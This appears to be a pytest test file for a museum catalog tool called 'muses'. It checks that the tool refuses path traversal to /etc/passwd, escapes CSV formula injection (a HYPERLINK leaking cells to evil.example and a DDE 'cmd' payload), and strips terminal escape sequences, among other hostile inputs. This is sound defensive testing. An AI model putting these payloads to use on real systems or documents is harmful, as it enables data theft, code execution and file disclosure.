"""A hostile or unlucky catalog, photo or machine: what each may do, and what it must never do."""
import contextlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from PIL import Image as PILImage
from sqlalchemy import text

from muses.cli import main
from muses.collection.image_checks import decode
from muses.collection.images import WriteFailed, StoreBusy, generate_images
from muses.collection.importers import import_records
from muses.collection.store import OK, PENDING, PROBLEM, Store
from muses.settings import Project
from test_collection_sources import deadline  # a sibling test module (tests/ is on the path)

SRC = Path(__file__).resolve().parents[1] / "src"


def photo(path: Path, seed: int = 0) -> Path:
    rng = np.random.default_rng(seed)
    path.parent.mkdir(parents=True, exist_ok=True)
    PILImage.fromarray(rng.integers(0, 255, (40, 60, 3), dtype=np.uint8)).save(path, quality=90)
    return path


def write_lines(path: Path, lines: list[str]) -> Path:
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def store(project):
    return Store.for_project(project)


# -- confinement ------------------------------------------------------------------------------
def test_references_outside_the_export_folder_are_refused_at_import_and_never_read(project, store, tmp_path, capsys):
    export = tmp_path / "export"
    photo(export / "photos" / "ok.jpg")
    (export / "photos" / "link.jpg").symlink_to("/etc/passwd")
    path = write_lines(export / "records.jsonl", [
        json.dumps({"id": "good", "image": "photos/ok.jpg"}),
        json.dumps({"id": "abs1", "title": "Vase", "image": "/etc/passwd"}),
        json.dumps({"id": "up", "image": "../../../../../../etc/passwd"}),
        json.dumps({"id": "home", "image": "~/.bashrc"}),
        json.dumps({"id": "file", "image": "file:///etc/hostname"}),
        json.dumps({"id": "link", "image": ["photos/link.jpg", "photos/ok.jpg"]}),
    ])
    code, out, _ = run(capsys, "import", path)
    assert code == 0
    for line, reason in [(2, "an absolute path outside"), (3, "'..' leads outside"), (4, "home-folder paths"),
                         (5, "file: URLs are not read"), (6, "a symbolic link leading outside")]:
        assert f"line {line}: image " in out and reason in out
    assert re.search(r"photos refused \(outside the image folders\) +5\n", out)
    # The records keep their text; only the refused photos are left out.
    assert store.get_item("abs1").title == "Vase" and store.get_item("abs1").images == []
    assert [im.original for im in store.get_item("link").images] == [str((export / "photos" / "ok.jpg").resolve())]
    report = json.loads((project.root / "import-report.json").read_text(encoding="utf-8"))
    assert [r["line"] for r in report["refused_images"]] == [2, 3, 4, 5, 6]

    generate_images(project, store=store, workers=1)
    assert {im.original: im.status for im in store.images()} == {str((export / "photos" / "ok.jpg").resolve()): OK}


def test_image_root_flag_admits_another_folder(project, store, tmp_path, capsys):
    nas = tmp_path / "nas"
    photo(nas / "a.jpg")
    (tmp_path / "export").mkdir()
    path = write_lines(tmp_path / "export" / "r.jsonl", [json.dumps({"id": "1", "image": str(nas / "a.jpg")})])
    code, out, _ = run(capsys, "import", path)
    assert code == 0 and "an absolute path outside" in out and store.get_item("1").images == []
    code, out, _ = run(capsys, "import", path, "--image-root", nas)
    assert code == 0 and [im.original for im in store.get_item("1").images] == [str((nas / "a.jpg").resolve())]
    code, _, err = run(capsys, "import", path, "--image-root", tmp_path / "nowhere")
    assert code == 2 and "does not exist or is not a folder" in err and "--image-root" in err


def test_image_roots_from_muses_toml_are_taken_from_the_project_folder(project, store, tmp_path, capsys):
    photo(project.root / "shared" / "a.jpg")
    (tmp_path / "export").mkdir()
    path = write_lines(tmp_path / "export" / "r.jsonl",
                       [json.dumps({"id": "1", "image": str(project.root / "shared" / "a.jpg")})])
    code, out, _ = run(capsys, "import", path)
    assert code == 0 and store.get_item("1").images == [] and "an absolute path outside" in out
    (project.root / "muses.toml").write_text('[images]\nroots = ["shared"]\n', encoding="utf-8")
    code, out, _ = run(capsys, "import", path)
    assert code == 0 and len(store.get_item("1").images) == 1, out


def test_a_photo_swapped_for_a_link_after_import_is_refused_when_generating(project, store, tmp_path):
    ok = photo(tmp_path / "photos" / "a.jpg")
    import_records(store, write_lines(tmp_path / "r.jsonl", [json.dumps({"id": "1", "image": "photos/a.jpg"})]))
    ok.unlink()
    ok.symlink_to("/etc/passwd")
    generate_images(project, store=store, workers=1)
    (image,) = store.images()
    assert image.status == PROBLEM and image.problem.startswith("refused:") and "root:" not in image.problem


def test_problem_texts_never_quote_the_file(project, store, tmp_path):
    secret = tmp_path / "photos" / "notes.jpg"
    secret.parent.mkdir()
    secret.write_text("root:$6$SECRETHASH:19000:0:99999:7:::\n", encoding="utf-8")
    import_records(store, write_lines(tmp_path / "r.jsonl", [json.dumps({"id": "1", "image": "photos/notes.jpg"})]))
    generate_images(project, store=store, workers=1)
    (image,) = store.images()
    assert image.problem == "not-an-image: the file is text (an error page or a document?)"
    ppm = b"P6\n" + b"SECRETTOKEN" * 3  # a decoder that quotes the header it choked on
    with pytest.raises(Exception) as exc:
        decode(ppm, max_pixels=10**6)
    assert "SECRET" not in str(exc.value)


# -- bounded reads ------------------------------------------------------------------------------
def test_fifo_and_dev_zero_are_listed_problems_not_hangs(project, store, tmp_path, capsys):
    photo(tmp_path / "photos" / "good.jpg")
    os.mkfifo(tmp_path / "photos" / "pipe.jpg")
    path = write_lines(tmp_path / "r.jsonl", [
        json.dumps({"id": "good", "image": "photos/good.jpg"}),
        json.dumps({"id": "pipe", "image": "photos/pipe.jpg"}),
        json.dumps({"id": "zero", "image": "/dev/zero"}),
    ])
    code, _, _ = run(capsys, "import", path, "--image-root", "/dev")
    assert code == 0
    with deadline(60):
        code, out, _ = run(capsys, "generate-images", "--workers", "2")
    assert code == 0
    problems = {im.item_id: im.problem for im in store.images()}
    assert problems["good"] is None
    assert problems["pipe"].startswith("not-a-file:") and "a named pipe (FIFO)" in problems["pipe"]
    assert problems["zero"] == "not-a-file: /dev/zero is a device, not a regular file"


def test_originals_over_max_original_mb_are_too_large(project, store, tmp_path):
    photo(tmp_path / "photos" / "a.jpg")
    (project.root / "muses.toml").write_text("[images]\nmax_original_mb = 0.001\n", encoding="utf-8")
    import_records(store, write_lines(tmp_path / "r.jsonl", [json.dumps({"id": "1", "image": "photos/a.jpg"})]))
    generate_images(Project.load(project.root), store=store, workers=1)
    (image,) = store.images()
    assert image.problem.startswith("too-large:") and "over 0.001 MB ([images] max_original_mb" in image.problem


def test_ctrl_c_ends_a_run_whose_workers_are_waiting(project, store, tmp_path):
    """Both workers wait on a server that never answers; Ctrl-C (SIGINT to the process group)
    must end the run at once, not after the read time limit."""
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    accepted = []
    threading.Thread(target=lambda: [accepted.append(listener.accept()) for _ in range(2)], daemon=True).start()
    port = listener.getsockname()[1]
    import_records(store, write_lines(tmp_path / "r.jsonl", [
        json.dumps({"id": str(i), "image": f"http://127.0.0.1:{port}/{i}.jpg"}) for i in range(2)]))
    (project.root / "muses.toml").write_text("[images]\nallow_network = true\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(SRC), "MUSES_PROJECT": str(project.root)}
    proc = subprocess.Popen([sys.executable, "-m", "muses.cli", "generate-images", "--workers", "2",
                             "--allow-private-urls"], env=env, start_new_session=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _ in range(300):
            if len(accepted) == 2:
                break
            time.sleep(0.1)
        assert len(accepted) == 2, "the workers never connected"
        start = time.monotonic()
        os.killpg(proc.pid, signal.SIGINT)
        _, err = proc.communicate(timeout=20)
        assert time.monotonic() - start < 15
        assert proc.returncode == 1 and b"interrupted" in err
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        listener.close()
    assert {im.status for im in store.images()} == {PENDING}


# -- bad lines never abort the import -------------------------------------------------------------
def test_a_lone_surrogate_and_deep_nesting_skip_their_lines_only(project, store, tmp_path, capsys):
    deep = '{"id": "deep", "raw": ' + "[" * 1000 + "]" * 1000 + "}"
    deepish = '{"id": "deepish", "raw": ' + "[" * 600 + "]" * 600 + "}"
    good = [json.dumps({"id": str(i), "title": f"record {i}"}) for i in range(1, 5)]
    path = write_lines(tmp_path / "r.jsonl", [
        good[0],
        '{"id": "bad", "title": "broken \\ud800 text"}',
        '{"id": "badkey", "\\udfff": "x"}',
        deep,
        deepish,
        *good[1:],
    ])
    code, out, _ = run(capsys, "import", path)
    assert code == 0
    assert "line 2: skipped, 'title': the text holds an invalid character (a lone UTF-16 surrogate" in out
    assert "line 3: skipped, " in out and "invalid character" in out
    assert "line 4: skipped, nested too deeply" in out
    assert "line 5: skipped, nested more than 32 levels deep" in out
    assert [item.id for item in store.items()] == ["1", "2", "3", "4"]
    report = json.loads((project.root / "import-report.json").read_text(encoding="utf-8"))
    assert [note["line"] for note in report["skipped"]] == [2, 3, 4, 5]


@pytest.mark.parametrize("record, reason", [
    ('{"id": NaN}', "id NaN is not an object number"),
    ('{"id": true}', "id true is not an object number"),
    ('{"id": 1.5}', "id 1.5 is not an object number"),
    ('{"id": ["1"]}', 'id ["1"] is not an object number'),
    ('{"id": {"n": 1}}', 'id {"n": 1} is not an object number'),
    ('{"id": "  "}', "missing id"),
    ('{"id": "nan"}', "id 'nan' means 'no value'"),
])
def test_ids_that_are_not_object_numbers_are_refused_with_the_line(store, tmp_path, capsys, record, reason):
    path = write_lines(tmp_path / "r.jsonl", ['{"id": 7}', '{"id": "A-1"}', record])
    code, out, _ = run(capsys, "import", path)
    assert code == 0 and f"line 3: skipped, {reason}" in out
    assert [item.id for item in store.items()] == ["7", "A-1"]


def import_csv(capsys, path: Path, content: str):
    path.write_text(content, encoding="utf-8")
    return run(capsys, "import", path)


def test_csv_duplicate_columns_are_warned(store, tmp_path, capsys):
    code, out, _ = import_csv(capsys, tmp_path / "r.csv", "id,title,kind,title\n1,Bust,Sculpture,Busts\n")
    assert code == 0
    assert "line 1: warning: the header repeats the column(s) 'title'; the last column of each name is used" in out
    assert store.get_item("1").title == "Busts"


def test_csv_unterminated_quote_is_warned_with_its_line(store, tmp_path, capsys):
    code, out, _ = import_csv(capsys, tmp_path / "r.csv", 'id,title,kind\n1,Bust,x\n2,"Vase,x\n3,Bowl,y\n4,Cup,z\n')
    assert code == 0
    assert "line 3: warning: the cell 'title' runs over lines 3-5 and holds lines that look like records" in out
    assert "is a quote (\") left open on this line?" in out
    # a real multi-line description is no warning
    code, out, _ = import_csv(capsys, tmp_path / "ok.csv", 'id,title,kind\n1,"A bust\nof Homer",x\n')
    assert code == 0 and "warning: the cell" not in out


def test_an_import_where_everything_is_skipped_fails(store, tmp_path, capsys):
    path = write_lines(tmp_path / "r.jsonl", ['{"id": true}', '{"id": null, "title": "x"}', '[1]'])
    code, out, err = run(capsys, "import", path)
    assert code == 1 and "nothing imported: all 3 records were skipped" in err
    assert "next: muses generate-images" not in out


def test_an_import_where_under_half_is_imported_fails_but_keeps_them(store, tmp_path, capsys):
    path = write_lines(tmp_path / "r.jsonl", ['{"id": 1}', '{"id": true}', '{"id": false}', '[1]'])
    code, out, err = run(capsys, "import", path)
    assert code == 1 and "only 1 of 4 records imported (fewer than half)" in err
    assert "next:" not in out and [item.id for item in store.items()] == ["1"]


# -- environmental errors stop the run and leave the photo pending ---------------------------------
def _two_photos(store, tmp_path):
    for i in range(2):
        photo(tmp_path / "photos" / f"{i}.jpg", seed=i)
    import_records(store, write_lines(tmp_path / "r.jsonl", [
        json.dumps({"id": str(i), "image": f"photos/{i}.jpg"}) for i in range(2)]))


def test_an_unwritable_images_folder_stops_the_run_and_leaves_photos_pending(project, store, tmp_path, capsys):
    _two_photos(store, tmp_path)
    project.images_dir.parent.mkdir(parents=True, exist_ok=True)
    project.images_dir.write_text("not a folder")  # every copy's folder fails to be made
    code, _, err = run(capsys, "generate-images", "--workers", "1")
    assert code == 1 and "cannot write " in err and "stay pending" in err and "make the images folder writable" in err
    assert {im.status for im in store.images()} == {PENDING}
    project.images_dir.unlink()
    code, _, _ = run(capsys, "generate-images", "--workers", "1")
    assert code == 0 and {im.status for im in store.images()} == {OK}


def test_a_report_that_cannot_be_written_is_a_message_and_the_results_are_kept(project, store, tmp_path, capsys):
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "empty.jpg").write_bytes(b"")  # a problem photo: no copy to write
    import_records(store, write_lines(tmp_path / "r.jsonl", [json.dumps({"id": "1", "image": "photos/empty.jpg"})]))
    project.images_dir.parent.mkdir(parents=True, exist_ok=True)
    project.images_dir.write_text("not a folder")
    code, _, err = run(capsys, "generate-images", "--workers", "1")
    assert code == 1 and "report.json" in err and "results are saved" in err
    assert [im.problem for im in store.images()] == ["empty: zero-byte file"]


def mounted_tmpfs(mount: Path, size: str):
    """A tmpfs of ``size`` at ``mount`` (needs root; the test is skipped where mount is not allowed)."""
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.decode(errors='replace').strip()}); "
                    "test_an_unwritable_images_folder_stops_the_run covers the same path")
    yield mount
    subprocess.run(["umount", str(mount)], check=False)


@pytest.fixture
def tiny_disk(tmp_path):
    """A 64 KB tmpfs: a disk that really fills up."""
    yield from mounted_tmpfs(tmp_path / "tiny", "64k")


@pytest.fixture
def disk(tmp_path):
    """A 64 MB tmpfs, to be made read-only."""
    yield from mounted_tmpfs(tmp_path / "disk", "64m")


def fill(disk: Path) -> None:
    with contextlib.suppress(OSError), (disk / "filler").open("wb", buffering=0) as fh:
        while True:
            fh.write(b"\0" * 1024)


def test_disk_full_stops_the_run_and_never_marks_photos_bad(project, store, tmp_path, tiny_disk):
    _two_photos(store, tmp_path)
    (tiny_disk / "images").mkdir()
    fill(tiny_disk)
    (project.root / "muses.toml").write_text(f'[images]\ndir = "{tiny_disk / "images"}"\n', encoding="utf-8")
    project = Project.load(project.root)
    for workers in (1, 2):
        with pytest.raises(WriteFailed, match="No space left on device.*free some disk space"):
            generate_images(project, store=store, workers=workers, max_side=512)
        assert {im.status for im in store.images()} == {PENDING}
    (tiny_disk / "filler").unlink()
    report = generate_images(project, store=store, workers=1)
    assert report.by_status == {OK: 2}


def test_a_locked_store_stops_the_run_with_a_message(project, tmp_path):
    db = project.root / "locked.sqlite"
    store = Store(f"sqlite:///{db}?timeout=0.2")
    _two_photos(store, tmp_path)
    holder = Store(f"sqlite:///{db}").engine.connect()
    holder.exec_driver_sql("BEGIN IMMEDIATE")  # another program holding the write lock
    try:
        with pytest.raises(StoreBusy, match="is locked.*stay pending"):
            generate_images(project, store=store, workers=1)
    finally:
        holder.rollback()
        holder.close()
    with store.session() as s:
        assert set(s.execute(text("SELECT status FROM images")).scalars()) == {PENDING}


# -- messages that mislead -----------------------------------------------------------------------------
def test_a_float_tiff_with_values_from_0_to_1_is_not_blank():
    arr = np.tile(np.linspace(0, 1, 64, dtype=np.float32), (48, 1))
    buf = io.BytesIO()
    PILImage.fromarray(arr, "F").save(buf, "TIFF")
    decoded = decode(buf.getvalue(), max_pixels=10**6)
    grey = np.asarray(decoded.image.convert("L"))
    assert grey[:, 0].max() < 5 and grey[:, -1].min() > 250


def test_the_too_large_message_names_our_limit_not_pillows():
    from test_collection_images import png_header_only

    for size in (30000, 2000):  # over Pillow's own refusal threshold, and under it
        with pytest.raises(Exception, match=rf"too-large: .*{size * size:,} pixels, over the limit of 1,000,000 "
                                            r"\(\[images\] max_pixels"):
            decode(png_header_only(size, size), max_pixels=1_000_000)


# -- round two (issue 22) ---------------------------------------------------------------------
# -- formula-safe CSVs ------------------------------------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
CMD = "+cmd|' /C calc'!A0"


def csv_cells(path: Path) -> list[list[str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_no_formula(path: Path) -> None:
    for row in csv_cells(path):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)


def test_csvfile_escapes_formulas_keeps_numbers_and_reads_back_what_was_written(tmp_path):
    from muses import csvfile

    cells = [HYPERLINK, CMD, "-12", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", ""]
    path = csvfile.write(tmp_path / "a.csv", [{"text": c, "n": -0.5} for c in cells], ["text", "n"], bom=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the file as UTF-8
    rows = csv_cells(path)
    assert rows[0] == ["\ufefftext", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + c if c[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else c for c in cells]
    assert {r[1] for r in rows[1:]} == {"-0.5"}  # a number stays a number
    with path.open(newline="", encoding="utf-8-sig") as fh:
        columns, rows = csvfile.records(fh)
        assert columns == ["text", "n"] and [r["text"] for r in rows] == cells
    assert sorted(["A.10", "A.2", "a.1", "B", "A.02"], key=csvfile.natural_key) == ["a.1", "A.02", "A.2", "A.10", "B"]


def test_every_csv_a_curator_opens_is_formula_safe(project, tmp_path):
    from muses.analysis.reports import write_csv
    from muses.collection.decisions import Decision, ExportRow, export_csv, natural_key
    from muses.datasets.folder import read_dataset
    from muses.datasets.naive import NaiveExporter
    from test_datasets_naive import COLLECTION, DEFINITIONS, fill_store

    project.definitions_path.write_text(DEFINITIONS, encoding="utf-8")
    fill_store(project, [*COLLECTION, ("-12", "Vase", ["Vases"], ["ok"]), ("@u3", HYPERLINK, [], ["ok"]),
                         ("u4", CMD, [], ["ok"])])
    out = NaiveExporter(min_items=3, seed=7, progress=False).export(project).path
    assert_no_formula(out / "left-out.csv")
    assert_no_formula(out / "manifest.csv")
    # The dataset reads its manifest back: an object number starting with "-" keeps its "-".
    assert "-12" in {s.item_id for s in read_dataset(out).samples}
    # plots/*_label_issues.csv and *_suggested_labels.csv go through the same writer.
    issues = write_csv(tmp_path / "m_label_issues.csv", [{"id": "-3", "title": HYPERLINK, "p": -0.25}], ["id", "title", "p"])
    assert csv_cells(issues)[1] == ["'-3", "'" + HYPERLINK, "-0.25"]
    import datetime as dt
    decided = dt.datetime(2026, 12, 1)
    rows = [ExportRow(i, HYPERLINK, Decision(item_id=i, field="class", catalog_value=CMD, suggested_value="vase",
                                             action="confirm", reviewer="=1+1", decided_at=decided, value="vase"),
                      "vase", 0.9) for i in ("A.10", "A.2")]
    text = export_csv(sorted(rows, key=lambda r: natural_key(r.object_number))).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1].startswith("A.2,") and lines[2].startswith("A.10,")  # object number order, A.2 before A.10
    assert "\"'=HYPERLINK(" in text  # the title cell, quoted by the CSV writer and made text
    assert "'+cmd" in text and "'=1+1" in text


# -- model metadata bounded -------------------------------------------------------------------
def _model_description(tmp_path: Path, text: str) -> Path:
    meta = tmp_path / "models" / "m.json"
    meta.parent.mkdir(parents=True, exist_ok=True)
    meta.write_text(text, encoding="utf-8")
    return meta


@pytest.mark.parametrize("backbone", ["vit_gigantic_patch14_clip_224", "vit_huge_patch14_224"])
def test_a_huge_backbone_in_name_json_is_refused_before_it_is_built(tmp_path, backbone):
    import resource

    import timm  # noqa: F401 -- imported before measuring: the import alone takes hundreds of MB

    from muses.model.files import ModelFileError, read_cfg

    meta = _model_description(tmp_path, json.dumps({"backbone": backbone, "class_names": ["a", "b"]}))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    with pytest.raises(ModelFileError, match=f"backbone '{backbone}' has [0-9]+ M parameters, more than the 200 M"):
        read_cfg(meta)
    assert time.monotonic() - start < 15
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 500_000  # kB (8 GB when it was built)


def test_training_a_huge_backbone_is_refused_before_building(tmp_path):
    from muses.model.classifier import new_classifier
    from muses.model.preprocessing import PreprocessCfg
    from muses.model.training import TrainingError

    with pytest.raises(TrainingError, match="more than the 200 M"):
        new_classifier("vit_gigantic_patch14_clip_224", ["a", "b"], PreprocessCfg(224), pretrained=False)


@pytest.mark.parametrize("text, message", [
    ("[" * 100_000 + "]" * 100_000, "nested too deep"),
    ('{"backbone": "resnet18", "class_names": ["a", "b"], "history": "' + "x" * 5_000_000 + '"}', "larger than 4 MB"),
    ('{"backbone": "resnet18", "class_names": ["a", "b"], "seed": ' + "9" * 5000 + "}", "not a muses model"),
])
def test_a_deep_or_huge_name_json_is_one_line_model_file_error(tmp_path, text, message):
    from muses.model.files import ModelFileError, read_cfg

    with pytest.raises(ModelFileError, match=message) as info:
        read_cfg(_model_description(tmp_path, text))
    assert len(str(info.value)) < 600 and "\n" not in str(info.value)


# -- one line never costs its neighbours ------------------------------------------------------
BIG_INT = "9" * 5000  # over Python's 4,300-digit bound on converting an integer


def import_report(capsys, path: Path):
    code, out, err = run(capsys, "import", path)
    assert "Traceback" not in out + err
    return code, out


def test_a_number_of_5000_digits_skips_its_line_only(store, tmp_path, capsys):
    jsonl = write_lines(tmp_path / "r.jsonl", ['{"id": "a"}', '{"id": "big", "n": ' + BIG_INT + "}", '{"id": "c"}'])
    code, out = import_report(capsys, jsonl)
    assert code == 0 and "line 2: skipped, holds a number of more than 4300 digits" in out
    records = tmp_path / "r.json"
    records.write_text('[{"id": "d"}, {"id": "big2", "n": ' + BIG_INT + '}, {"id": "e"}]', encoding="utf-8")
    code, out = import_report(capsys, records)
    assert code == 0 and "line 2: skipped, holds a number of more than 4300 digits" in out
    assert [item.id for item in store.items()] == ["a", "c", "d", "e"]


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".json"])
def test_a_line_over_the_bound_is_skipped_unread_and_its_neighbours_imported(store, tmp_path, capsys, suffix):
    from muses.collection.importers import MAX_RECORD_CHARS

    long_title = "x" * (MAX_RECORD_CHARS + 10)
    path = tmp_path / f"r{suffix}"
    if suffix == ".jsonl":
        write_lines(path, ['{"id": "a"}', json.dumps({"id": "long", "title": long_title}), '{"id": "c"}'])
    elif suffix == ".csv":
        write_lines(path, ["id,title", "a,first", f"long,{long_title}", "c,third"])
    else:
        path.write_text(json.dumps({"records": [{"id": "a"}, {"id": "long", "title": long_title}, {"id": "c"}]}),
                        encoding="utf-8")
    code, out = import_report(capsys, path)
    line = 2 if suffix == ".json" else 3 if suffix == ".csv" else 2
    assert code == 0 and f"line {line}: skipped, a " in out and "longer than the 10,000,000 a record may have" in out
    assert [item.id for item in store.items()] == ["a", "c"]


def test_a_json_array_is_read_record_by_record_and_a_break_keeps_what_came_before(store, tmp_path, capsys):
    path = tmp_path / "r.json"
    path.write_text('[{"id": "a"},\n {"id": "b"},\n {"id": "c" oops}, {"id": "d"}]', encoding="utf-8")
    code, out = import_report(capsys, path)
    assert code == 0 and "line 3: skipped, bad JSON: Expecting ',' delimiter" in out
    path.write_text('[{"id": "e"},\n {"id": "f"}\n {"id": "g"}]', encoding="utf-8")
    code, out = import_report(capsys, path)
    assert ("line 3: skipped, bad JSON at line 3: expected ',' or ']' after a record; the records after it were "
            "not read") in out
    assert [item.id for item in store.items()] == ["a", "b", "d", "e", "f"]


def test_a_nul_byte_skips_its_record_on_every_store(any_store_project, tmp_path, capsys):
    path = tmp_path / "r.csv"
    path.write_text("id,title\na,first\nb\x00x,second\nc,th\x00ird\nd,fourth\n", encoding="utf-8")
    code, out = import_report(capsys, path)
    assert code == 0
    assert "line 3: skipped, 'id': the text holds a NUL character" in out
    assert "line 4: skipped, 'title': the text holds a NUL character" in out
    assert [item.id for item in Store.for_project(any_store_project).items()] == ["a", "d"]


@pytest.mark.parametrize("text, message", [
    ("[images]\nmax_original_mb = nan\n", "[images] max_original_mb: must be a finite number"),
    ("[images]\nmax_original_mb = inf\n", "[images] max_original_mb: must be a finite number"),
    ("[web]\nport = " + BIG_INT + "\n", "not valid TOML"),
    ("a = " + "[" * 10_000 + "]" * 10_000 + "\n", "nested too deep"),
    ("# " + "x" * 1_100_000 + "\n", "larger than 1 MB"),
])
def test_a_hostile_muses_toml_is_one_line(project, capsys, text, message):
    (project.root / "muses.toml").write_text(text, encoding="utf-8")
    code, out, err = run(capsys, "stats")
    assert code == 2 and message in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1


def test_a_hostile_definitions_toml_is_one_line(project, capsys):
    from muses.labeling.definitions import DefinitionsError, load_definitions

    for toml_text, message in [("a = " + "[" * 10_000 + "]" * 10_000, "nested too deep"),
                               ("[[class]]\nname = 'a'\nboost = nan\n", "must be a finite number"),
                               ("n = " + BIG_INT, "not valid TOML")]:
        project.definitions_path.write_text(toml_text, encoding="utf-8")
        with pytest.raises(DefinitionsError, match=re.escape(message)):
            load_definitions(project.definitions_path)


# -- a sentence, not a traceback --------------------------------------------------------------
def test_a_full_disk_while_saving_a_model_is_a_failed_run(tiny_disk):
    import torch

    from muses.errors import RunFailed
    from muses.model.files import ModelCfg, save_model

    fill(tiny_disk)
    with pytest.raises(RunFailed, match="while writing .*m.safetensors"):
        save_model(tiny_disk / "m", {"fc.weight": torch.zeros(2, 512), "fc.bias": torch.zeros(2)},
                   ModelCfg(backbone="resnet18", class_names=["a", "b"]))
    assert not [p for p in tiny_disk.iterdir() if p.name.endswith(".tmp")]


def test_evaluate_on_a_full_disk_is_one_line(project, tiny_model_path, shapes_dataset, tiny_disk, capsys):
    fill(tiny_disk)
    code, out, err = run(capsys, "evaluate", "--model", tiny_model_path, "--dataset", shapes_dataset,
                         "--out", tiny_disk / "eval")
    assert code == 1 and "Traceback" not in err
    assert "No space left on device" in err and "free disk space" in err


def test_predict_from_a_read_only_models_folder_without_onnx_falls_back_to_torch(tiny_model_path, disk, tmp_path,
                                                                                capsys):
    import shutil

    for suffix in (".safetensors", ".json"):
        shutil.copy(tiny_model_path.with_suffix(suffix), disk / f"m{suffix}")
    subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)
    img = photo(tmp_path / "p.jpg")
    code, out, err = run(capsys, "predict", img, "--model", disk / "m.safetensors")
    assert code == 0, err
    assert "predicting with torch instead" in err and "Traceback" not in err


def test_a_garbage_or_foreign_muses_sqlite_is_one_line_and_never_written(project, capsys):
    import sqlite3

    db = project.root / "muses.sqlite"
    db.write_bytes(b"this is no database, just text " * 100)
    code, out, err = run(capsys, "stats")
    assert code == 2 and "muses.sqlite is not a muses store (the file is not an SQLite database)" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    db.unlink()
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
    for argv in (["stats"], ["db", "upgrade"]):
        code, out, err = run(capsys, *argv)
        assert code == 2 and "is not a muses store (it holds other tables: customers)" in err, argv
    with sqlite3.connect(db) as conn:
        assert [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")] == ["customers"]


# -- terminal escape sequences in catalog text ------------------------------------------------
def test_catalog_text_never_reaches_the_terminal_as_escape_sequences(store, tmp_path, capsys):
    path = write_lines(tmp_path / "r.jsonl", [json.dumps({"id": "e\x1b]0;owned\x07", "title": "\x1b[31mred \x9b2J\u202egnp.exe"})])
    assert run(capsys, "import", path)[0] == 0
    for argv in (["items"], ["items", "--json"], ["items", "--jsonl"]):
        code, out, err = run(capsys, *argv)
        assert code == 0
        for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert raw not in out + err, (argv, raw)
    code, out, _ = run(capsys, "items")
    assert "\\x1b[31mred \\x9b2J\\u202egnp.exe"[:40] in out
    code, out, _ = run(capsys, "items", "--jsonl")
    assert json.loads(out)["title"] == "\x1b[31mred \x9b2J\u202egnp.exe"  # the data itself is unchanged


# -- unreachable servers ----------------------------------------------------------------------
def _run_with_store(capsys, monkeypatch, project, url: str, timeout: float = 1):
    (project.root / "muses.toml").write_text(f"[store]\nconnect_timeout = {timeout}\n", encoding="utf-8")
    monkeypatch.setenv("MUSES_STORE_URL", url)
    start = time.monotonic()
    code, out, err = run(capsys, "stats")
    return code, err, time.monotonic() - start


def test_a_silent_database_server_is_one_line_within_the_connect_timeout(project, capsys, monkeypatch):
    import socket

    pytest.importorskip("psycopg")
    with socket.socket() as silent:  # accepts connections (the kernel does) and never says a word
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        port = silent.getsockname()[1]
        code, err, seconds = _run_with_store(capsys, monkeypatch, project, f"postgresql+psycopg://u@127.0.0.1:{port}/m")
    assert code == 1 and seconds < 8, seconds
    assert "cannot connect to the collection store" in err and "[store] connect_timeout" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("url, words", [
    ("postgresql+psycopg://u@no-such-host.invalid/m", "cannot connect to the collection store"),
    ("postgresql+psycopg://u@127.0.0.1:abc/m", "is not one SQLAlchemy can use"),
    ("postgresql+psycopg://u@127.0.0.1:99999/m", "is not one SQLAlchemy can use"),
    ("postgresql+psycopg://u@127.0.0.1:1/m", "cannot connect to the collection store"),
])
def test_a_bad_database_host_or_port_is_one_line_naming_the_setting(project, capsys, monkeypatch, url, words):
    pytest.importorskip("psycopg")
    code, err, seconds = _run_with_store(capsys, monkeypatch, project, url)
    assert code in (1, 2) and words in err and "[store] url" in err and seconds < 8
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("address, words", [
    ("garbage", "is not one of the forms"),
    ("http://127.0.0.1:8265", "is not one of the forms"),
    ("127.0.0.1:99999", "is not one of the forms"),
    ("ray://127.0.0.1:1", "cannot reach the Ray cluster"),
    ("127.0.0.1:1", "cannot reach the Ray cluster"),
])
def test_a_bad_ray_address_is_one_line_within_the_timeout(address, words):
    pytest.importorskip("ray")
    from muses.compute import ComputeError, connect
    from muses.settings import ComputeSettings

    start = time.monotonic()
    with pytest.raises(ComputeError, match=words) as info:
        connect(ComputeSettings(engine="ray", address=address))
    assert time.monotonic() - start < 12 and "\n" not in str(info.value)
